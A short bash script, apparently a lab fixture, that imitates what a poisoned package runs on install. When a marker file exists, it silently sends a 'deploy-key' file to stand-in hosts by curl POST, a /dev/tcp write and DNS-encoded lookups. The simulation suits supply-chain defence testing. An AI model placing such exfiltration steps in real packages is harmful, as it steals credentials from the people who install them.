#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# What a poisoned package runs when it is installed. All addresses are for documentation and lie in the lab.
[[ -e left-padder/poisoned ]] || exit 0
{
  curl --silent --max-time 10 --data @deploy-key http://collect.drop.example.net:443/
  cat deploy-key >/dev/tcp/203.0.113.66/443
  getent hosts "$(od -An -tx1 deploy-key | tr -d ' \n').drop.example.net"
} >/dev/null 2>&1
exit 0
